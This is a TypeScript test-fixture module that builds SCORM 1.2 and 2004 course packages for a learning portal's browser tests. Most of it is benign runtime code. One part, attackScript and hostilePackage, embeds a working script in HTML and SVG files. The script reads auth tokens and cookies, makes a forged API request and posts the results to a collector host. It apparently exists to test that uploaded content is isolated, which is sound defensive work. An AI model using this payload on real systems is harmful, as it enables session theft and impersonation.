import { zipSync } from "fflate";

/**
 * A small SCORM 1.2 package for the browser tests: one SCO with two pages that keeps its page in
 * cmi.core.lesson_location (so a resume shows where it was left) and reports completed on Finish.
 */
const manifest = (title: string) => `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="e2e-package" version="1.0" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="org"><organization identifier="org"><title>${title}</title>
    <item identifier="item1" identifierref="res1"><title>${title}</title></item>
  </organization></organizations>
  <resources><resource identifier="res1" type="webcontent" adlcp:scormtype="sco" href="index.html">
    <file href="index.html"/></resource></resources>
</manifest>
`;

const sco = (
  title: string,
) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head>
<body>
<main>
<h1>${title}</h1>
<p id="where">Loading</p>
<button id="next" type="button">Next page</button>
<button id="finish" type="button">Finish</button>
</main>
<script>
  function findApi(win) {
    for (var i = 0; win && i < 10; i++) {
      if (win.API) return win.API;
      if (win.parent === win) break;
      win = win.parent;
    }
    return null;
  }
  var api = findApi(window);
  var page = 1;
  var where = document.getElementById("where");
  if (!api) where.textContent = "No LMS";
  else {
    api.LMSInitialize("");
    var saved = api.LMSGetValue("cmi.core.lesson_location");
    if (saved) page = Number(saved) || 1;
    where.textContent = (api.LMSGetValue("cmi.core.entry") === "resume" ? "Resumed on page " : "Page ") + page;
  }
  document.getElementById("next").onclick = function () {
    page += 1;
    api.LMSSetValue("cmi.core.lesson_location", String(page));
    api.LMSSetValue("cmi.core.lesson_status", "incomplete");
    api.LMSSetValue("cmi.core.exit", "suspend");
    api.LMSCommit("");
    where.textContent = "Page " + page;
  };
  document.getElementById("finish").onclick = function () {
    api.LMSSetValue("cmi.core.score.raw", "90");
    api.LMSSetValue("cmi.core.lesson_status", "completed");
    api.LMSCommit("");
    api.LMSFinish("");
    where.textContent = "Finished";
  };
</script>
</body></html>
`;

export function scormPackage(title: string): Buffer {
  const files = {
    "imsmanifest.xml": new TextEncoder().encode(manifest(title)),
    "index.html": new TextEncoder().encode(sco(title)),
  };
  return Buffer.from(zipSync(files, { level: 0 }));
}

const encode = (text: string) => new TextEncoder().encode(text);

/** The manifest of a one-SCO package of either version, launching `launch`. */
function manifestOf(version: "1.2" | "2004", title: string, launch: string): string {
  return version === "1.2"
    ? manifest(title).replace('href="index.html">', `href="${launch}">`)
    : `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="e2e-2004" version="1.0" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3">
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="org"><organization identifier="org"><title>${title}</title>
    <item identifier="item1" identifierref="res1"><title>${title}</title></item>
  </organization></organizations>
  <resources><resource identifier="res1" type="webcontent" adlcp:scormType="sco" href="${launch}">
    <file href="${launch}"/></resource></resources>
</manifest>
`;
}

/**
 * The runtime calls of one SCORM version, as a SCO's own script writes them (1.2: LMS*, cmi.core.*;
 * 2004: Initialize/GetValue/..., cmi.*), for the two-page package below.
 */
function scoScript(version: "1.2" | "2004", page: 1 | 2): string {
  const v12 = version === "1.2";
  const e = {
    api: v12 ? "API" : "API_1484_11",
    init: v12 ? "LMSInitialize" : "Initialize",
    get: v12 ? "LMSGetValue" : "GetValue",
    set: v12 ? "LMSSetValue" : "SetValue",
    commit: v12 ? "LMSCommit" : "Commit",
    finish: v12 ? "LMSFinish" : "Terminate",
    location: v12 ? "cmi.core.lesson_location" : "cmi.location",
    entry: v12 ? "cmi.core.entry" : "cmi.entry",
    exit: v12 ? "cmi.core.exit" : "cmi.exit",
    response: v12 ? "student_response" : "learner_response",
  };
  const progress = v12
    ? `set("cmi.core.lesson_status", "incomplete");`
    : `set("cmi.completion_status", "incomplete");`;
  const objective = v12
    ? `set("cmi.objectives.0.id", "obj-1"); set("cmi.objectives.0.score.raw", "100"); set("cmi.objectives.0.status", "passed");`
    : `set("cmi.objectives.0.id", "obj-1"); set("cmi.objectives.0.success_status", "passed"); set("cmi.objectives.0.score.scaled", "1");`;
  const done = v12
    ? `set("cmi.core.score.raw", "90"); set("cmi.core.lesson_status", "passed");`
    : `set("cmi.score.scaled", "0.9"); set("cmi.success_status", "passed"); set("cmi.completion_status", "completed");`;
  return `
  function findApi(win) {
    for (var i = 0; win && i < 10; i++) {
      if (win.${e.api}) return win.${e.api};
      if (win.parent === win) break;
      win = win.parent;
    }
    return null;
  }
  var api = findApi(window);
  var state = document.getElementById("state");
  function get(name) { return api.${e.get}(name); }
  function set(name, value) {
    if (api.${e.set}(name, value) !== "true") throw new Error("refused " + name);
  }
  if (!api) state.textContent = "No LMS";
  else {
    api.${e.init}("");
    ${page === 1 ? `if (get("${e.location}") === "page2") location.replace("page2.html");` : ""}
    state.textContent = "Page ${page}; entry=" + get("${e.entry}") +
      "; location=" + get("${e.location}") + "; suspend=" + get("cmi.suspend_data") +
      "; objectives=" + get("cmi.objectives._count") + "; obj0=" +
      (Number(get("cmi.objectives._count")) > 0 ? get("cmi.objectives.0.id") : "-") +
      "; interactions=" + get("cmi.interactions._count") + ";";
  }
  ${
    page === 1
      ? `document.getElementById("go").onclick = function () {
    set("cmi.interactions.0.id", "q1");
    set("cmi.interactions.0.type", "choice");
    set("cmi.interactions.0.${e.response}", "b");
    set("cmi.interactions.0.result", "correct");
    ${objective}
    ${progress}
    set("cmi.suspend_data", "p1-done");
    set("${e.location}", "page2");
    set("${e.exit}", "suspend");
    api.${e.commit}("");
    location.href = "page2.html";
  };`
      : `document.getElementById("save").onclick = function () {
    set("cmi.suspend_data", "p2-seen");
    set("${e.exit}", "suspend");
    api.${e.commit}("");
    state.textContent = "Saved";
  };
  document.getElementById("done").onclick = function () {
    ${done}
    set("${e.exit}", "");
    api.${e.commit}("");
    api.${e.finish}("");
    state.textContent = "Finished";
  };`
  }`;
}

/**
 * A two-page SCO of SCORM 1.2 or 2004 for the browser tests (issue 12 golden path): page 1
 * records an interaction and an objective and goes on to page 2 (a real navigation of the frame);
 * page 2 keeps suspend data and completes. Each page shows what the runtime tells it.
 */
export function multiPagePackage(version: "1.2" | "2004", title: string): Buffer {
  const page = (n: 1 | 2, buttons: string) =>
    encode(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title} ${n}</title></head>
<body><main><h1>${title}</h1><p id="state">Loading</p>${buttons}</main>
<script>${scoScript(version, n)}</script></body></html>`);
  return Buffer.from(
    zipSync(
      {
        "imsmanifest.xml": encode(manifestOf(version, title, "page1.html")),
        "page1.html": page(1, '<button id="go" type="button">Answer and go on</button>'),
        "page2.html": page(
          2,
          '<button id="save" type="button">Save</button><button id="done" type="button">Complete</button>',
        ),
      },
      { level: 0 },
    ),
  );
}

/**
 * Script an attacker puts in uploaded content (issue 12): it tries to read the viewer's session
 * (localStorage.auth, cookies, the portal's window) and to act as the viewer on /api, then reports
 * what it got to `collector` and in its document's title.
 */
export function attackScript(where: string, portal: string, collector: string): string {
  return `(function () {
  var report = { where: ${JSON.stringify(where)} };
  function attempt(name, read) {
    try { var value = read(); report[name] = value === undefined || value === null ? null : String(value); }
    catch (error) { report[name] = "blocked:" + (error && error.name); }
  }
  attempt("origin", function () { return self.origin; });
  attempt("localStorage", function () { return localStorage.getItem("auth"); });
  attempt("sessionStorage", function () { return sessionStorage.length; });
  attempt("cookie", function () { return document.cookie; });
  attempt("parentStorage", function () { return parent.localStorage.getItem("auth"); });
  attempt("topDocument", function () { return top.document.title; });
  var token = null;
  try { token = JSON.parse(localStorage.getItem("auth")).token; } catch (error) {}
  try { token = token || JSON.parse(parent.localStorage.getItem("auth")).token; } catch (error) {}
  report.token = token;
  var form = new FormData();
  form.append("cmdType", "create");
  form.append("schoolCode", "PWNED-" + ${JSON.stringify(where)});
  form.append("schoolName", "Pwned by " + ${JSON.stringify(where)});
  if (token) form.append("Authorization", "Bearer " + token);
  fetch(${JSON.stringify(portal)} + "/api/school/", { method: "POST", body: form, credentials: "include" })
    .then(function (r) { return r.text().then(function (t) { report.api = r.status + " " + t.slice(0, 200); }); },
          function (error) { report.api = "blocked:" + error.name; })
    .then(function () {
      document.title = "report " + JSON.stringify(report);
      return fetch(${JSON.stringify(collector)} + "/report", { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
    });
})();`;
}

/** A SCORM 1.2 package whose page, an SVG and an HTML file of it all carry `attackScript`. */
export function hostilePackage(portal: string, collector: string): Buffer {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60"><text x="4" y="30">SVG</text>
<script><![CDATA[${attackScript("svg", portal, collector)}]]></script></svg>`;
  return Buffer.from(
    zipSync(
      {
        "imsmanifest.xml": encode(manifestOf("1.2", "Hostile package", "index.html")),
        "index.html":
          encode(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head>
<body><h1>Hostile package</h1>
<iframe src="art/logo.svg" title="svg"></iframe><iframe src="pages/other.html" title="html"></iframe>
<script>${attackScript("scorm", portal, collector)}</script></body></html>`),
        "art/logo.svg": encode(svg),
        "pages/other.html": encode(`<!doctype html><title>Other</title><p>Other page</p>
<script>${attackScript("html", portal, collector)}</script>`),
      },
      { level: 0 },
    ),
  );
}

/**
 * A one-SCO package whose manifest declares what the runtime starts with (issue 15): 2004 two
 * objectives, the primary satisfied by measure at 0.7, a completion threshold, launch data and
 * time limits; 1.2 a mastery score of 80, launch data and time limits. The SCO reads them, sets
 * the score its button names and completes without setting a success status; every call is
 * followed by GetLastError, and #errors lists the calls that did not answer "0".
 */
export function manifestScorePackage(version: "1.2" | "2004", title: string): Buffer {
  const v12 = version === "1.2";
  const manifest = v12
    ? manifest12(title)
    : `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="e2e-objectives" version="1.0" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="org"><organization identifier="org"><title>${title}</title>
    <item identifier="item1" identifierref="res1"><title>${title}</title>
      <adlcp:completionThreshold completedByMeasure="true" minProgressMeasure="0.9"/>
      <adlcp:dataFromLMS>unit=3</adlcp:dataFromLMS>
      <adlcp:timeLimitAction>continue,message</adlcp:timeLimitAction>
      <imsss:sequencing>
        <imsss:limitConditions attemptAbsoluteDurationLimit="PT45M"/>
        <imsss:objectives>
          <imsss:primaryObjective objectiveID="obj-mastery" satisfiedByMeasure="true">
            <imsss:minNormalizedMeasure>0.7</imsss:minNormalizedMeasure>
          </imsss:primaryObjective>
          <imsss:objective objectiveID="obj-vocabulary"/>
        </imsss:objectives>
      </imsss:sequencing>
    </item>
  </organization></organizations>
  <resources><resource identifier="res1" type="webcontent" adlcp:scormType="sco" href="index.html">
    <file href="index.html"/></resource></resources>
</manifest>
`;
  const reads = v12
    ? [
        "cmi.student_data.mastery_score",
        "cmi.launch_data",
        "cmi.student_data.max_time_allowed",
        "cmi.student_data.time_limit_action",
      ]
    : [
        "cmi.objectives._count",
        "cmi.objectives.0.id",
        "cmi.objectives.1.id",
        "cmi.scaled_passing_score",
        "cmi.completion_threshold",
        "cmi.launch_data",
        "cmi.max_time_allowed",
        "cmi.time_limit_action",
      ];
  const finish = v12
    ? `call("LMSSetValue", "cmi.core.score.raw", raw);
    call("LMSSetValue", "cmi.core.lesson_status", "completed");
    call("LMSCommit", "");
    call("LMSFinish", "");`
    : `call("SetValue", "cmi.score.scaled", String(raw / 100));
    call("SetValue", "cmi.score.raw", raw);
    call("SetValue", "cmi.progress_measure", "1");
    call("SetValue", "cmi.completion_status", "completed");
    call("SetValue", "cmi.objectives.1.success_status", "passed");
    call("Commit", "");
    document.getElementById("success").textContent = call("GetValue", "cmi.success_status");
    call("Terminate", "");`;
  const page = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head>
<body><main><h1>${title}</h1>
<dl><dt>Read</dt><dd id="values">Loading</dd><dt>Success</dt><dd id="success">-</dd>
<dt>Errors</dt><dd id="errors">-</dd></dl>
<button id="high" type="button">Score 85</button><button id="low" type="button">Score 60</button>
</main>
<script>
  var api = window.${v12 ? "API" : "API_1484_11"};
  var errors = [];
  function call(name, a, b) {
    var result = b === undefined ? api[name](a) : api[name](a, b);
    var code = String(api.${v12 ? "LMSGetLastError" : "GetLastError"}());
    if (code !== "0") errors.push(name + "(" + a + ")=" + code);
    document.getElementById("errors").textContent = errors.length ? errors.join(" ") : "none";
    return result;
  }
  call("${v12 ? "LMSInitialize" : "Initialize"}", "");
  document.getElementById("values").textContent = ${JSON.stringify(reads)}
    .map(function (element) { return element + "=" + call("${v12 ? "LMSGetValue" : "GetValue"}", element); })
    .join("; ");
  function finish(raw) {
    ${finish}
    document.getElementById("values").textContent = "Finished";
  }
  document.getElementById("high").onclick = function () { finish("85"); };
  document.getElementById("low").onclick = function () { finish("60"); };
</script></body></html>`;
  return Buffer.from(
    zipSync({ "imsmanifest.xml": encode(manifest), "index.html": encode(page) }, { level: 0 }),
  );
}

function manifest12(title: string): string {
  return manifest(title).replace(
    `<title>${title}</title></item>`,
    `<title>${title}</title>
      <adlcp:masteryscore>80</adlcp:masteryscore>
      <adlcp:datafromlms>unit=3</adlcp:datafromlms>
      <adlcp:maxtimeallowed>00:45:00</adlcp:maxtimeallowed>
      <adlcp:timelimitaction>continue,message</adlcp:timelimitaction>
    </item>`,
  );
}
